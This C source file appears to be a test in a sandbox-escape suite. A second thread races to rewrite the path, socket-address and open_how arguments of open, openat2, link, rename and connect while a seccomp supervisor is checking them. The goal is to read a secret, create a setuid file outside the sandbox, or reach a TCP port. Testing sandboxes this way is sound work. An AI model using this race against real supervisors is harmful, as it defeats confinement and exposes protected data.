/* SPDX-License-Identifier: MIT */
/*
 * A second thread rewrites what a pointer argument points to while the call is
 * being judged: path of open, link and rename, address of connect, struct open_how. A judge that
 * reads the argument and lets the kernel read it again can be shown one thing
 * while another is done. (peers.md: pointer TOCTOU; seccomp user notification.)
 * Success: the secret is read, a file lands outside, the host is reached.
 */
#include <arpa/inet.h>
#include <linux/openat2.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/socket.h>
#include <sys/un.h>
#include "escape.h"

enum { ROUNDS = 3000, PATH_BYTES = 512 };

static atomic_int stop;
static char path[PATH_BYTES];
static char innocent[PATH_BYTES], guilty[PATH_BYTES];
static struct sockaddr_in address;
static struct open_how how;

static void *rewrite(void *unused)
{
	const char *host = fact("tcp");
	unsigned short port = htons((unsigned short)(host ? atoi(host) : 1));

	for (unsigned turn = 0; !atomic_load(&stop); turn++) {
		memcpy(path, turn & 1 ? guilty : innocent, PATH_BYTES);
		address.sin_family = turn & 1 ? AF_INET : AF_UNSPEC;
		address.sin_port = turn & 1 ? port : 0;
		how.flags = turn & 1 ? O_RDWR | O_CREAT : O_RDONLY;
		how.mode = turn & 1 ? 04755 : 0;
	}
	return unused;
}

static int reads_secret(int fd)
{
	char text[256] = "";

	if (fd < 0)
		return 0;
	if (read(fd, text, sizeof(text) - 1) < 0)
		text[0] = '\0';
	close(fd);
	return strstr(text, need("token")) != NULL;
}

static int opened(void) { return reads_secret(open(path, O_RDONLY)); }
static int opened_at(void) { return reads_secret((int)syscall(SYS_openat2, AT_FDCWD, path, &how, sizeof(how))); }

static int linked(void)
{
	int done = link(path, "raced-link") == 0 && reads_secret(open("raced-link", O_RDONLY));

	unlink("raced-link");
	return done;
}

static int renamed(void)
{
	if (rename("raced-file", path) < 0 && errno == ENOENT)
		close(open("raced-file", O_CREAT | O_WRONLY, 0600));
	return access(guilty, F_OK) == 0;
}

static int connected(void)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return 0;
	if (fact("tcp") && connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0) {
		struct pollfd ready = { fd, POLLIN, 0 };

		if (poll(&ready, 1, 20) > 0)
			return reads_secret(fd);
	}
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	pthread_t thread;

	(void)argc;
	begin(argv);
	snprintf(guilty, sizeof(guilty), "%s", need("secret"));
	snprintf(innocent, sizeof(innocent), "raced-innocent");
	close(open(innocent, O_CREAT | O_WRONLY, 0600));
	address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	if (pthread_create(&thread, NULL, rewrite, NULL) != 0) {
		skipped("no second thread");
		return verdict();
	}
	race("open", opened, ROUNDS);
	race("openat2", opened_at, ROUNDS);
	race("link", linked, ROUNDS / 4);
	race("connect", connected, 100);
	snprintf(innocent, sizeof(innocent), "raced-target");
	snprintf(guilty, sizeof(guilty), "%s/raced", need("outside"));
	race("rename", renamed, ROUNDS / 4);
	atomic_store(&stop, 1);
	pthread_join(thread, NULL);
	return verdict();
}
